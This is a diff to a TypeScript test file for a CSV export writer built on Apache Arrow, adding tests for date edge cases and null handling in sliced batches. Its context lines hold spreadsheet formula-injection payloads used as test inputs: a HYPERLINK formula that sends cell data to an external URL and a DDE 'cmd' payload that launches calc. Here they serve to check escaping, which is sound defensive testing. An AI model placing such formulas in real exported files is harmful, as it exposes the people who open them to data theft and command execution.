@@ -1,5 +1,5 @@
 /** The file writers of the exports: CSV from Arrow batches, the streamed ZIP, Blob collection. */
-import { DateDay, Field, makeData, RecordBatch, Schema, Struct, TimestampMicrosecond, Utf8, vectorFromArray, type Vector } from 'apache-arrow';
+import { DateDay, Field, Int32, makeData, RecordBatch, Schema, Struct, TimestampMicrosecond, Utf8, vectorFromArray, type Vector } from 'apache-arrow';
 import { strFromU8, unzipSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
 import { BlobSink, collectBlob } from '../../src/exports/blob-sink.ts';
@@ -101,6 +101,25 @@ describe('CSV writer', () => {
     expect(raw[0]).toBe('=name,amount,n');
     expect(raw[1]).toBe('"=HYPERLINK(""https://example.com/?""&A2,""x"")",-0.5,0');
     expect(raw.slice(2, 7)).toEqual(['+SUM(A1:A9),-1.5,-1', "-2+3+cmd|' /C calc'!A0,-2.5,-2", '@SUM(1),-3.5,-3', '\tx,-4.5,-4', '"\rx",-5.5,-5']);
+  });
+
+  it('writes dates at and beyond the edges of its 1900–2100 byte table, first and again', () => {
+    const days = [-719_162, -25_568, -25_567, 0, 47_846, 47_847, 47_848, 2_932_896];
+    const batch = batchOf({ d: vectorFromArray([...days, ...days].map((d) => d * 86_400_000), new DateDay()) });
+    const expected = ['0001-01-01', '1899-12-31', '1900-01-01', '1970-01-01', '2100-12-31', '2101-01-01', '2101-01-02', '9999-12-31'];
+    expect(csv(batch).split('\n').slice(1, -1)).toEqual([...expected, ...expected]);
+  });
+
+  it('reads nulls by bit in a slice that starts mid-byte, and copies long text whole', () => {
+    const long = `x${'é'.repeat(40)},y`;
+    const batch = batchOf({
+      i: vectorFromArray([1, null, 3, null, 5, 6, null, 8, 9, null, 11], new Int32()),
+      d: vectorFromArray([0, 86_400_000, null, 0, null, 0, 0, null, 0, 0, null], new DateDay()),
+      s: vectorFromArray(['a', 'b', long, null, 'c', '', 'd', 'e', long, 'f', null], new Utf8()),
+    });
+    expect(csv(batch.slice(3, 11)).split('\n').slice(1, -1)).toEqual([
+      ',1970-01-01,', '5,,c', '6,1970-01-01,""', ',1970-01-01,d', '8,,e', `9,1970-01-01,"${long}"`, ',1970-01-01,f', '11,,',
+    ]);
   });
 
   it('encodes a batch that is a slice of a larger one', () => {
